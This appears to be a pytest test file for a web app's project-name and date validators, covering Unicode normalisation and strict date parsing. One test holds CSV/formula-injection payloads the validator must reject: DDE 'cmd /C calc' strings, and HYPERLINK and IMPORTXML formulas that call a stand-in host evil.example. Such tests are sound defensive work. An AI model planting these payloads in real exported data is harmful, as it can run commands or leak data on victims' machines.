"""Names that only look the same are one; what a spreadsheet would run is no name."""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.errors import InvalidInput
from app.core.text import tidied
from app.projects.fields import BY_NAME

check_name = BY_NAME["name"].check
check_day = BY_NAME["plan_expires_on"].check


@pytest.mark.parametrize(
    "twin",
    [
        "Acme Portal",
        "Acme\u00a0Portal",
        "Acme  Portal",
        " Acme\u2003\u00a0 Portal\u3000",
        "Acme Portal\u200b",
        "\ufeffAcme Portal",
        "\u200eAcme Portal\u200f",
        "Ac\u00adme Por\u2060tal",
        "Acme\u200d Portal\u200c",
        "Acme\ufe0f Portal",
        "Acme\u3164Portal",
        "Acme\u2800Portal",
        "Acme Portal\U000e0041",
        "Acme\u034f Portal",
    ],
)
def test_what_looks_the_same_is_the_same(twin: str) -> None:
    assert check_name(twin) == "Acme Portal"
    assert BY_NAME["organisation_id"].check(twin) == "Acme Portal"


@pytest.mark.parametrize("hyphen", ["-", "\u2010", "\u2011"])
def test_a_hyphen_is_a_hyphen(hyphen: str) -> None:
    assert tidied(f"Acme{hyphen}Portal") == "Acme-Portal"


@pytest.mark.parametrize(
    "name", ["\u200b", "\u00a0 \u2003", "\u3164", "\ufe0f", "\u200d", "\u2800\u200b"]
)
def test_a_name_that_nobody_sees_is_none(name: str) -> None:
    with pytest.raises(InvalidInput, match="Enter a project name"):
        check_name(name)


@given(st.text(alphabet=st.characters(categories=("Cf", "Zs", "Mn", "Lo", "So", "Lu", "Sk"))))
def test_tidying_twice_is_tidying_once(text: str) -> None:
    assert tidied(tidied(text)) == tidied(text)


@pytest.mark.parametrize(
    "name",
    [
        "@Home (NL)",
        "@Work (UK, Ireland)",
        "@properties",
        "+31 (20) 555 0199",
        "+Plus!",
        "-40° (Arctic)",
        "-273 Cryogenics",
        "-- | --",
        "+rehab (Berlin)",
        "A=B",
        "Yahoo!",
        "(=)",
        "#1 (one)",
    ],
)
def test_what_no_spreadsheet_runs_is_a_name(name: str) -> None:
    assert check_name(name) == name


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "= Acme",
        "\u200b=1+1",
        "\u00a0=1+1",
        "＝1+1",
        "\t=1+1",
        "\r\n=1+1",
        "@SUM(1)",
        "+SUM(A1)",
        "-1+HYPERLINK(A1)",
        '@HYPERLINK ("http://evil.example")',
        '+importxml ("http://evil.example", A1)',
        "-2+3+cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "+'http://evil.example/[x.xls]Sheet'!A1",
        "-[x.xls]Sheet!A1",
        "+Sheet1!$A$1",
        "＋SUM(A1)",
    ],
)
def test_what_a_spreadsheet_would_run_is_refused(formula: str) -> None:
    """A client's name starts a program, or reads a file, once somebody opens a list of clients."""
    with pytest.raises(InvalidInput, match="spreadsheet formula"):
        check_name(formula)


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?"])
def test_what_is_left_of_a_broken_formula_is_no_name(error: str) -> None:
    with pytest.raises(InvalidInput, match="a spreadsheet's error"):
        check_name(error)


@pytest.mark.parametrize(
    "text",
    [
        "2027-01-31",
        "2027-01-31T00:00",
        "2027-01-31 00:00:00",
        "2027-01-31T00:00:00.000Z",
        "2027-01-31T00:00:00+00:00",
        "\u200e2027-01-31\u00a0",
    ],
)
def test_a_day_may_have_midnight_as_its_time(text: str) -> None:
    assert check_day(text) == date(2027, 1, 31)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("2027-01-31 13:45", "has a time of day"),
        ("2027-01-31T23:59:59", "has a time of day"),
        ("2027-01-31T00:00:00+02:00", "has a time of day"),
        ("2027-01-31 00:00 midnight", "is not a date"),
        ("01/02/2027", "is not a date; write year-month-day"),
        ("31.01.2027 00:00:00", "is not a date; write year-month-day"),
        ("46418", "is not a date"),
        ("2027-02-30 00:00", "There is no day 2027-02-30."),
    ],
)
def test_a_day_that_can_be_taken_for_another_is_refused(text: str, reason: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        check_day(text)
    assert reason in refused.value.detail
